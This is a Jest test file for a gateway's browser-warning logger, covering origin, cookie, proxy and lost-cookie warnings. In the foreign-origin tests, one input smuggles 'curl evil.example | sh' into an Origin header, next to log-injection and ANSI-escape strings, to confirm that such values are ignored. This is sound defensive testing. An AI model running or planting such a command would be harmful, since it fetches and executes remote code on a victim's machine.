import { beforeEach, describe, expect, it } from '@jest/globals';
import { optionTable } from '../../../../src/config/option-table.ts';
import type { RequestFacts } from '../../../../src/graphql/graphql-context.ts';
import { BrowserWarnings } from '../../../../src/http/warnings/browser-warnings.ts';
import type { WarnedRequest } from '../../../../src/http/warnings/warned-request.ts';
import type { CookieChange } from '../../../../src/session/request-session.ts';
import { ManualClock } from '../../../support/manual-clock.ts';

const app = 'https://app.example';
const token = 'a-token-that-nobody-may-see';
const issue: CookieChange = { kind: 'issue', token, maxAgeMs: 1_000 };
const lax = { name: 'id', domain: undefined, sameSite: 'Lax', secure: false, partitioned: false };
const none = { ...lax, sameSite: 'None', secure: true };

const clock = new ManualClock();
let lines: string[] = [];

beforeEach(() => {
  lines = [];
});

function warningsWith(cookie: typeof lax): BrowserWarnings {
  const log = {
    warn: (fields: object, message: string): void => {
      lines.push(`${JSON.stringify(fields)} ${message}`);
    },
  };
  return new BrowserWarnings(log, { ...cookie, sameSite: cookie.sameSite as 'Lax' }, clock);
}

function requestOf(
  headers: WarnedRequest['headers'],
  rest: Partial<WarnedRequest> = {},
): WarnedRequest {
  const socket = { remoteAddress: '::ffff:192.0.2.7' };
  return { headers, host: 'gateway.example', protocol: 'http', socket, ...rest };
}

function factsOf(rest: Partial<RequestFacts> = {}): RequestFacts {
  return {
    id: 'request',
    address: '192.0.2.1',
    userAgent: 'browser',
    acceptLanguage: undefined,
    cookieTokens: [],
    origin: 'allowed',
    ...rest,
  };
}

describe('a warning of a foreign origin', () => {
  it('names the origin, the option and the command, once', () => {
    const warnings = warningsWith(lax);
    warnings.foreignOrigin(requestOf({ origin: app }));
    warnings.foreignOrigin(requestOf({ origin: app }));
    expect(lines).toEqual([
      expect.stringMatching(
        /^\{"origin":"https:\/\/app\.example"\} a page of https:\/\/app\.example asks, but RINGGATE_ALLOWED_ORIGINS does not name it.*; see: ringgate doctor --origin https:\/\/app\.example$/,
      ),
    ]);
    warnings.foreignOrigin(requestOf({ origin: 'https://b.example' }));
    expect(lines).toHaveLength(2);
  });

  it('tells of a page from a file', () => {
    warningsWith(lax).foreignOrigin(requestOf({ origin: 'null' }));
    expect(lines).toEqual([expect.stringMatching(/from a file .*ringgate doctor --origin null$/)]);
  });

  it.each([
    undefined,
    '',
    'https://a.example; curl evil.example | sh',
    'https://a.example\n{"level":60}',
    `https://${'a'.repeat(300)}.example`,
    '\u001b[31mhttps://a.example',
  ])('is not given of what no browser sends: %j', (origin) => {
    warningsWith(lax).foreignOrigin(requestOf({ origin }));
    expect(lines).toEqual([]);
  });

  it('is given of some tens of origins at most', () => {
    const warnings = warningsWith(lax);
    for (let i = 0; i < 1_000; i++) {
      warnings.foreignOrigin(requestOf({ origin: `https://a${i}.example` }));
    }
    expect(lines).toHaveLength(32);
  });
});

describe('a warning of a cookie that is issued', () => {
  const crossSite = { origin: app, 'sec-fetch-site': 'cross-site' };
  const insecure = { origin: 'http://app.example' };

  it.each<[string, typeof lax, WarnedRequest, RegExp]>([
    [
      'SameSite=Lax for another site',
      lax,
      requestOf(crossSite),
      /SameSite=Lax.*COOKIE_SAMESITE=None/,
    ],
    [
      'SameSite=Strict for another site',
      { ...lax, sameSite: 'Strict' },
      requestOf(crossSite),
      /SameSite=Strict/,
    ],
    [
      'no Partitioned for another site',
      none,
      requestOf(crossSite),
      /RINGGATE_COOKIE_PARTITIONED=on/,
    ],
    [
      'Secure over http',
      { ...lax, secure: true },
      requestOf(insecure),
      /RINGGATE_COOKIE_SECURE=off/,
    ],
    [
      'Secure over http behind a proxy that says so',
      { ...lax, secure: true },
      requestOf({ ...insecure, 'x-forwarded-proto': 'http' }, { ips: ['192.0.2.7'] }),
      /RINGGATE_COOKIE_SECURE=off/,
    ],
  ])('is given of %s, once', (_name, cookie, request, text) => {
    const warnings = warningsWith(cookie);
    warnings.cookieChanged(issue, request, factsOf({ cookieTokens: ['one'] }));
    warnings.cookieChanged(issue, request, factsOf({ cookieTokens: ['one'] }));
    expect(lines).toEqual([expect.stringMatching(text)]);
    expect(lines[0]).toContain(`ringgate doctor --origin ${String(request.headers['origin'])}`);
    expect(lines[0]).not.toContain(token);
  });

  it.each<[string, typeof lax, WarnedRequest, Partial<RequestFacts>]>([
    ['of the same site', lax, requestOf({ ...crossSite, 'sec-fetch-site': 'same-site' }), {}],
    ['of the own origin', lax, requestOf(crossSite), { origin: 'own' }],
    ['that is Partitioned', { ...none, partitioned: true }, requestOf(crossSite), {}],
    ['without Origin', lax, requestOf({ 'sec-fetch-site': 'cross-site' }), { origin: 'none' }],
    ['that is not Secure', lax, requestOf(insecure), {}],
    ['over https', { ...lax, secure: true }, requestOf(insecure, { protocol: 'https' }), {}],
    ['of a page over https', { ...lax, secure: true }, requestOf({ origin: app }), {}],
    [
      'on this machine',
      { ...lax, secure: true },
      requestOf(insecure, { host: 'localhost:4000' }),
      {},
    ],
    [
      'behind a proxy that ends TLS and is not trusted',
      { ...lax, secure: true },
      requestOf({ ...insecure, 'x-forwarded-proto': 'https' }, { ips: ['192.0.2.7'] }),
      {},
    ],
    [
      'behind a proxy that ends TLS and does not say so',
      { ...lax, secure: true },
      requestOf({ ...insecure, 'sec-fetch-site': 'same-site' }),
      {},
    ],
    ['by a host that is none', { ...lax, secure: true }, requestOf(insecure, { host: '[' }), {}],
  ])('is not given of a cookie %s', (_name, cookie, request, facts) => {
    warningsWith(cookie).cookieChanged(issue, request, factsOf(facts));
    expect(lines).toEqual([]);
  });
});

describe('a warning of a proxy', () => {
  const forwarded = { origin: app, 'x-forwarded-for': '198.51.100.1' };

  it('names its address and the option, once, whatever is asked', () => {
    const warnings = warningsWith(lax);
    warnings.cookieChanged(issue, requestOf(forwarded), factsOf());
    warnings.cookieChanged(issue, requestOf(forwarded), factsOf());
    expect(lines).toEqual([
      expect.stringMatching(
        /^\{"proxy":"192\.0\.2\.7"\} 192\.0\.2\.7 sends .*RINGGATE_TRUST_PROXY/,
      ),
    ]);
    warningsWith(lax).foreignOrigin(requestOf({ ...forwarded, origin: 'https://b.example' }));
    expect(lines.slice(1)).toEqual([
      expect.stringContaining('RINGGATE_TRUST_PROXY'),
      expect.stringContaining('RINGGATE_ALLOWED_ORIGINS'),
    ]);
  });

  it('is given of one that forwards the host or the protocol only, where none is trusted', () => {
    for (const name of ['x-forwarded-host', 'x-forwarded-proto']) {
      const request = requestOf({ origin: app, [name]: 'https' });
      warningsWith(lax).cookieChanged(issue, request, factsOf());
    }
    expect(lines).toHaveLength(2);
    const request = requestOf(
      { origin: app, 'x-forwarded-proto': 'https' },
      { ips: ['192.0.2.7'] },
    );
    warningsWith(lax).cookieChanged(issue, request, factsOf());
    expect(lines).toHaveLength(2);
  });

  it('is given of one that is not trusted where others are, and of no trusted one', () => {
    const peer = '192.0.2.7';
    const trusted = requestOf(forwarded, { ips: [peer, '198.51.100.1'] });
    warningsWith(lax).cookieChanged(issue, trusted, factsOf());
    expect(lines).toEqual([]);
    warningsWith(lax).cookieChanged(issue, requestOf(forwarded, { ips: [peer] }), factsOf());
    expect(lines).toHaveLength(1);
  });
});

describe('a warning of a lost cookie', () => {
  const request = requestOf({ origin: app });
  const again = (
    change: CookieChange,
    gapMs: number,
    next: Partial<RequestFacts> = {},
  ): readonly string[] => {
    const warnings = warningsWith(lax);
    warnings.cookieChanged(issue, request, factsOf());
    warnings.cookieChanged(
      change,
      request,
      factsOf(change.kind === 'clear' ? { cookieTokens: ['one'] } : {}),
    );
    clock.advance(gapMs);
    warnings.cookieChanged(issue, request, factsOf(next));
    return lines;
  };

  it('is given when a client comes back without it within a minute', () => {
    expect(again(issue, 1_000)).toEqual([
      expect.stringMatching(/came back without it .*credentials: 'include'.*ringgate doctor/),
    ]);
    lines = [];
    expect(again(issue, 60_000)).toHaveLength(1);
  });

  it.each<[string, CookieChange, number, Partial<RequestFacts>]>([
    ['requests side by side', issue, 999, {}],
    ['a later visit', issue, 60_001, {}],
    ['a client that sent it', issue, 5_000, { cookieTokens: ['one'] }],
    ['another browser', issue, 5_000, { userAgent: 'other' }],
    ['another address', issue, 5_000, { address: '192.0.2.2' }],
    ['the own origin', issue, 5_000, { origin: 'own' }],
    ['a login after a logout', { kind: 'clear' }, 5_000, {}],
  ])('is not given of %s', (_name, change, gapMs, next) => {
    expect(again(change, gapMs, next)).toEqual([]);
  });
});

describe('every warning', () => {
  it('names options that there are', () => {
    const known = Object.values(optionTable).map(({ variable }) => variable);
    for (const cookie of [lax, none]) {
      const warnings = warningsWith(cookie);
      const headers = { origin: 'http://a.example', 'x-forwarded-for': '192.0.2.9' };
      for (const site of ['cross-site', undefined]) {
        const request = requestOf({ ...headers, 'sec-fetch-site': site });
        warnings.cookieChanged(issue, request, factsOf());
        clock.advance(5_000);
        warnings.foreignOrigin(request);
      }
    }
    const told = lines.flatMap((line) => line.match(/RINGGATE_\w+/g) ?? []);
    expect(lines.length).toBeGreaterThan(5);
    expect(known).toEqual(expect.arrayContaining(told));
  });
});
